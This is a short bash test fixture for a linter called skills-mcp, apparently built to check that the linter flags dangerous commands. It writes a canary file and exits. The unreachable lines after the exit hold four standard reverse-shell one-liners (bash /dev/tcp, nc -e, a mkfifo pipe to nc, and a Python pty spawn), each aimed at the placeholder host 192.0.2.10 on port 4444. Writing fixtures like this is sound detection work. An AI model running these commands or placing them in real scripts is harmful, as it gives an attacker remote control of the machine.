#!/bin/bash
# Test fixture for the skills-mcp risk linter. It only writes a marker file
# and stops: nothing below the exit line ever runs.
echo skills-mcp-lint-canary > /tmp/skills-mcp-lint-canary
exit 0
bash -i >& /dev/tcp/192.0.2.10/4444 0>&1
nc -e /bin/sh 192.0.2.10 4444
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.10 4444 > /tmp/f
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.10",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'
